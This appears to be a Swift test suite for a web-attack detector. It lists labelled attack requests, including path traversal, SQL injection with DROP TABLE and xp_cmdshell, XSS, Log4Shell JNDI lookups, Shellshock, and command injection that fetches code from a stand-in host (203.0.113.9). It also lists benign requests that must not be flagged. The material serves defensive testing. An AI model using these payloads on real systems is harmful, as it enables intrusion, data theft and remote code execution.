import Analysis
import Flows
import Reports
import Terms
import Testing

@testable import Detection

@Suite struct WebAttackTests {
  /// Technique and request; each condemns itself.
  static let attacks: [(String, String)] = [
    ("traversal", "GET /../../../../etc/passwd"),
    ("traversal", "GET /download?file=../../../../etc/shadow"),
    ("traversal", "GET /a/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("traversal", "GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir"),
    ("traversal", "GET /scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir"),
    ("traversal", "GET /msadc/..%255c..%255c../winnt/system32/cmd.exe?/c+dir"),
    ("traversal", "GET /x/..%25252f..%25252f..%25252fboot.ini"),
    ("traversal", "GET /scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir"),
    ("traversal", "GET /..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("traversal", "GET /%uff0e%uff0e/%uff0e%uff0e/windows/win.ini"),
    ("traversal", "GET /%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd"),
    ("traversal", "GET /show.php?p=..\\..\\..\\boot.ini"),
    ("traversal", "GET /show.php?p=....//....//....//etc/passwd"),
    ("traversal", "GET /app/..;/..;/manager/html"),
    ("traversal", "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
    ("traversal", "GET /show?f=../../../../etc/passwd%00.jpg"),
    ("traversal", "GET /\nCookie: theme=../../../../etc/passwd"),
    ("traversal", "GET /\nCookie: a=b; lang=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("xss", "GET /\nReferer: \"><script src=//x.example/a.js></script>"),
    ("sqli", "GET /item?id=1%20UNION%20SELECT%20id,login,pw%20FROM%20users--"),
    ("sqli", "GET /item?id=-1/**/UnIoN/**/aLl/**/SeLeCt/**/1,2,version()"),
    ("sqli", "GET /item?id=1/*!50000union*//*!50000select*/null,null"),
    ("sqli", "GET /item?id=1%2520union%2520select%2520null,null"),
    ("sqli", "GET /item?id=1+union(select(1),2,3)"),
    ("sqli", "GET /item?id=1%0aunion%0aselect%0a@@version"),
    ("sqli", "GET /item?id=1%20OR%201=1"),
    ("sqli", "GET /search?q='%20or%20'1'='1"),
    ("sqli", "GET /search?q=%27%7c%7c%271%27%3d%271"),
    ("sqli", "GET /search?q=\"or\"\"=\""),
    ("sqli", "GET /item?id=1'%20AND%20SLEEP(3)--"),
    ("sqli", "GET /item?id=1;waitfor%20delay%20'0:0:5'--"),
    ("sqli", "GET /item?id=1%20and%20benchmark(5000000,md5(1))"),
    ("sqli", "GET /item?id=1;DROP%20TABLE%20x--"),
    ("sqli", "GET /item?id=1;exec%20xp_cmdshell('dir')"),
    ("sqli", "GET /item?id=1%20and%20extractvalue(1,concat(0x7e,version()))"),
    ("sqli", "GET /item?id=1\nCookie: id=1' union select 1,2,3 -- -"),
    ("xss", "GET /search?q=<script>alert(1)</script>"),
    ("xss", "GET /search?q=%3CScRiPt%3Ealert(1)%3C/ScRiPt%3E"),
    ("xss", "GET /search?q=%253Cscript%253Ealert(1)"),
    ("xss", "GET /search?q=<img%20src=x%20onerror=alert(1)>"),
    ("xss", "GET /search?q=%22%3E%3Csvg/onload=alert(1)%3E"),
    ("xss", "GET /search?q=%22%20onmouseover=%22alert(1)"),
    ("xss", "GET /search?q=javascript:alert(document.cookie)"),
    ("xss", "GET /search?q=&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("xss", "GET /search?q=\\x3cscript\\x3ealert(1)"),
    ("xss", "GET /go?u=data:text/html;base64,PHNjcmlwdD4=%3Ciframe"),
    ("command-injection", "GET /ping?host=127.0.0.1;cat%20/etc/passwd"),
    ("command-injection", "GET /ping?host=127.0.0.1%7Cwhoami"),
    ("command-injection", "GET /ping?host=$(wget%20http://203.0.113.9/x)"),
    ("command-injection", "GET /ping?host=%60uname%20-a%60"),
    ("command-injection", "GET /ping?host=a%26%26/bin/bash%20-c%20ls"),
    ("command-injection", "GET /ping?host=1%0a/usr/bin/curl%20http://203.0.113.9/x"),
    ("cgi", "GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd"),
    ("cgi", "GET /cgi-bin/test-cgi?*"),
    ("cgi", "POST /cgi-bin/php-cgi?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input"),
    ("shellshock", "GET /cgi-bin/status\nUser-Agent: () { :;}; /bin/bash -c \"cat /etc/passwd\""),
    ("shellshock", "GET /x\nX-Any: () { _; } >_[$($())] { id; }"),
    ("shellshock", "GET /cgi-bin/a?x=()%20%7B%20:;%7D;echo"),
    ("log4shell", "GET /?x=${jndi:ldap://203.0.113.9/a}"),
    ("log4shell", "GET /\nUser-Agent: ${${lower:j}${lower:n}di:${lower:l}dap://203.0.113.9/a}"),
    ("log4shell", "GET /\nX-Api: ${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/a}"),
    ("log4shell", "GET /\nReferer: ${jn${env:X:-d}i:dns://203.0.113.9/a}"),
    ("log4shell", "GET /%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D"),
    ("file-inclusion", "GET /index.php?page=php://filter/convert.base64-encode/resource=index"),
    ("file-inclusion", "GET /index.php?page=http://203.0.113.9/shell.txt?"),
    ("file-inclusion", "GET /index.php?page=/etc/passwd"),
    ("file-inclusion", "GET /fetch?url=http://169.254.169.254/latest/meta-data/&file=/proc/self/"),
    ("code-injection", "GET /page?name={{7*7}}"),
    ("code-injection", "GET /x?class.module.classLoader.resources=1"),
    (
      "code-injection",
      "POST /x\nContent-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext)}"
    ),
  ]

  @Test(arguments: attacks) func anAttackIsNamedByItsTechnique(
    technique: String, request: String
  ) throws {
    var story = try SessionStory(WebAttack(DetectionContext()))
    try story.ask(request, status: 404)
    let told = story.finish()
    #expect(told.first?.text("technique") == technique, "\(request)")
    #expect(told.count == 1, "\(told.map(\.attributes))")
  }

  static let ordinary: [String] = [
    "GET /", "GET /search?q=select+a+chair+or+table", "GET /search?q=union+select+committee",
    "GET /search?q=european+union", "GET /search?q=O%27Brien", "GET /search?q=rock+%26+roll",
    "GET /search?q=drop+table+saw;+update+kitchen", "GET /search?q=this+or+that=1",
    "GET /search?q=how+to+use+python+time.sleep(5)", "GET /search?q=c%2B%2B+or+java",
    "GET /search?q=%3C3+you", "GET /search?q=2+%3E+1+and+1+%3C+2", "GET /item?id=37&sort=name|id",
    "GET /a?utm_source=x&utm_medium=mail&utm_campaign=spring%20sale%20-%20order%20now",
    "GET /login?next=https%3A%2F%2Fexample.net%2Fa%3Fb%3Dc%26d%3De",
    "GET /login?next=%252Faccount%252Forders%253Fpage%253D2",
    "GET /t?d=eyJhIjoxLCJiIjpbMSwyXX0%3D&s=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==",
    "GET /api?filter=%7B%22name%22%3A%7B%22%24gt%22%3A%221%22%7D%7D",
    "GET /api?where=price%3E10%20and%20stock%3D1", "GET /css/../img/logo.png",
    "GET /docs/a..b/c...d.html", "GET /rel?from=../index.html",
    "GET /x?q=caf%C3%A9+%C3%A0+la+carte",
    "GET /announce?info_hash=%00%12%34%ab%cd%00%ff%01%80%90%00%11%22%33%44%55%66%77%88%99",
    "GET /x?on=1&online=2&one=3", "GET /wiki/Union_(SQL)", "GET /wiki/Cross-site_scripting",
    "GET /feed?echo=1;id=3;ls=2", "GET /a;jsessionid=1A2B3C?x=1", "GET /x?price=$(12)",
    "GET /x?callback=jQuery123_456&_=1700000", "GET /page?lang=en&file=report-2026.pdf",
    "GET /redirect?url=https://example.net/page.php", "GET /x?date=2026-01-01--2026-02-01",
    "GET /\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "GET /\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; .NET CLR; ls; id)",
    "GET /\nAccept: */*;q=0.8,text/html\nAccept-Language: en-US,en;q=0.5",
    "GET /\nReferer: https://www.example.net/search?q=<script>alert(1)</script>",
    "GET /authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A41233%2Fcallback",
    "GET /search?q='rock'+or+'pop'", "GET /search?q=a+song+like+'Hello'", "GET /x?q=C%23+--+intro",
    "GET /list?sort=1&order=by+name&email&whoever", "GET /x?range=5%7C9&host=a%7Cb",
    "GET /x?q=it's+--+really", "GET /.well-known/security.txt", "GET /env?x=%7B%22a%22:%7B%7D%7D",
    "GET /\nCookie: a=1; b=2; update=no; id=77; sid=s%3AabcDEF; _ga=GA1.2.3; set=1; echo=2",
  ]

  @Test(arguments: ordinary) func anOrdinaryRequestIsNoAttackHoweverOftenItComes(
    request: String
  ) throws {
    var story = try SessionStory(WebAttack(DetectionContext()))
    for _ in 0..<40 {
      story.wait(2)
      try story.ask(request)
    }
    let told = story.finish()
    #expect(told.isEmpty, "\(request): \(told.map(\.attributes)) \(told.map(\.terms))")
  }

  @Test func faintSignsAddUpWhenTheyDiffer() throws {
    var story = try SessionStory(WebAttack(DetectionContext()))
    for value in 1...8 {
      story.wait(20)
      try story.ask("GET /item?id=\(value))%20and%20(\(value)>\(value * 7)")
    }
    let told = story.finish()
    #expect(told.compactMap { $0.text("technique") } == ["sqli"])
  }

  @Test func bodiesAreReadAsWell() throws {
    var story = try SessionStory(WebAttack(DetectionContext()))
    let form = "Content-Type: application/x-www-form-urlencoded"
    try story.ask("POST /login\n\(form)", body: "user=admin%27+or+%271%27%3D%271&pass=x")
    try story.ask("POST /note\n\(form)", body: "text=%3Cscript%3Ealert(1)%3C/script%3E")
    try story.ask(
      "POST /api\nContent-Type: application/json", body: #"{"q":"\u003cscript\u003ealert(1)"}"#)
    let told = story.finish()
    #expect(Set(told.compactMap { $0.text("technique") }) == ["sqli", "xss"])
  }

  @Test func whatAWriterSaysOfTagsAndCommandsIsNoAttack() throws {
    var story = try SessionStory(WebAttack(DetectionContext()))
    let page =
      "<p>The path ../ goes one level up. Write &lt;script&gt; for a tag. Run `ls -la`, or "
      + "`cat file`. SELECT name FROM users WHERE id = 5;</p>"
    for _ in 0..<10 {
      story.wait(60)
      try story.ask(
        "POST /api/pages/7\nContent-Type: application/json", body: #"{"body":"\#(page)"}"#)
    }
    #expect(story.finish().isEmpty)
  }

  static let bodies = [
    (
      "POST /api/store\nContent-Type: application/json",
      #"{"message":"cannot read id","stack":"at eval (eval at <anonymous>) at document.write"}"#
    ),
    ("PUT /site/page.html", "<html><script src=/app.js></script><body onload=\"init()\"></html>"),
    (
      "POST /preview\nContent-Type: text/html",
      "<html><script>document.write(new Date())</script></html>"
    ),
  ]

  @Test(arguments: bodies) func reportsOfProgramsAndPagesAreNoScriptsInPages(
    head: String, body: String
  ) throws {
    var story = try SessionStory(WebAttack(DetectionContext()))
    for _ in 0..<10 {
      story.wait(30)
      try story.ask(head, body: body)
    }
    #expect(story.finish().isEmpty)
  }

  /// A script, a query for a console, and what people write to each other.
  static let written = [
    ##"{"title":"deploy","code":"#!/bin/bash\nset -e\ncd /srv/app && git pull\nfor f in $(ls *.conf);"##
      + ##" do cat $f; done\nif [ -f /etc/passwd ]; then id www; fi\n"}"##,
    #"{"sql":"SELECT id, name FROM users WHERE id = 5 UNION ALL SELECT id, name FROM old_users"}"#,
    ##"{"code":"import os\nfrom subprocess import run\nos.system('ls -la | wc -l')\nrun(['id'])\n"}"##,
    #"{"body":"To fix: `systemctl restart nginx; tail -f /var/log/x` and see what $(hostname) says"}"#,
    #"{"text":"Dear team, please run cat /etc/passwd | grep ftp and send me the list; id is enough"}"#,
  ]

  @Test(arguments: written) func programsThatSomebodyPostsAreNoInjections(body: String) throws {
    var story = try SessionStory(WebAttack(DetectionContext()))
    for _ in 0..<10 {
      story.wait(30)
      try story.ask("POST /paste\nContent-Type: application/json", body: body)
    }
    #expect(story.finish().isEmpty)
  }

  @Test(arguments: [
    #","host":"8.8.8.8; cat /etc/shadow""#, #","id":"7 union select null,version()""#,
  ]) func aLongTextBesideItHidesNoInjection(other: String) throws {
    var story = try SessionStory(WebAttack(DetectionContext()))
    let text = String(repeating: #"A line that says little.\n"#, count: 9)
    try story.ask(
      "POST /api\nContent-Type: application/json", body: #"{"text":"\#(text)"\#(other)}"#)
    #expect(story.finish().count == 1)
  }

  @Test func successMakesItWorse() throws {
    var story = try SessionStory(WebAttack(DetectionContext()))
    try story.ask("GET /../../../etc/passwd", status: 404)
    let before = Lab.newest(story.sink.reports).first?.severity ?? 0
    story.wait(10)
    try story.ask("GET /../../../etc/passwd", status: 200)
    let told = story.finish()
    #expect(told.count == 1)
    #expect(told.first?.severity ?? 0 > before)
    #expect(told.first?.count("requests") == 2)
    #expect(told.first?.count("status") == 200)
  }

  @Test func aWormsRequestsAreOneReport() throws {
    var story = try SessionStory(WebAttack(DetectionContext()), port: 8088)
    let filler = String(repeating: "N", count: 224)
    for host in 1...20 {
      story.server = "10.10.1.\(host)"
      try story.ask("GET /default.ida?\(filler)%u9090%u6858%ucbd3%u7801%u9090 HTTP/1.0")
    }
    let told = story.finish()
    #expect(told.map(\.story) == ["access.web-attack 203.0.113.5 > 20 hosts"])
    #expect(told.first?.text("technique") == "code-red")
  }

  /// Decoding ends, whatever is nested in what, and yields no more than there was.
  @Test func decodingIsBounded() {
    var random = SystemlessRandom(seed: 3)
    let pieces = [
      "%", "25", "u", "0041", "%c0", "%ae", "&#", "x3c;", "\\x", "${", "}", ":-", "..", "/",
    ]
    for _ in 0..<2000 {
      let text = (0..<40).map { _ in pieces[random.below(pieces.count)] }.joined()
      let decoded = WebText(Array(text.utf8), isQuery: true)
      #expect(decoded.bytes.count <= text.utf8.count)
      _ = WebReading(HTTPRequest(head: "GET /\(text)?\(text)\nX: \(text)", body: text)).scores
    }
  }
}

/// A small generator with a seed (Marsaglia's xorshift).
struct SystemlessRandom {
  private var state: UInt64
  init(seed: UInt64) { state = seed &* 0x9e37_79b9_7f4a_7c15 | 1 }
  mutating func below(_ limit: Int) -> Int {
    state ^= state << 13
    state ^= state >> 7
    state ^= state << 17
    return Int(state % UInt64(limit))
  }
}
